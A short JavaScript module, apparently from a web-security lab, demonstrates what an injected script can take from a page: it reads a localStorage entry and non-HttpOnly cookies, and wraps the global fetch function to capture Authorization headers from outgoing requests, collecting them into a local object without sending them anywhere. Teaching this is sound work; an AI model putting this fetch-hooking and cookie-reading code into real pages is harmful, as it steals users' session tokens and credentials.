// What an attacker's script does once it runs in a page. The lab shows the text of this very function.

/** @typedef {{ storage: string | null, variable: string | null, cookie: string }} Loot */

/**
 * @param {Loot} loot
 * @returns {() => void} ends it
 */
export function smuggled(loot) {
  // Everything in localStorage is there for the taking.
  loot.storage = localStorage.getItem("bulla-lab");
  // So is every cookie that is not HttpOnly.
  loot.cookie = document.cookie;
  // A variable is out of reach. What the page does with it is not.
  const real = globalThis.fetch;
  globalThis.fetch = (url, options) => {
    loot.variable ??= new Headers(options?.headers).get("Authorization");
    return real(url, options);
  };
  return () => (globalThis.fetch = real);
}
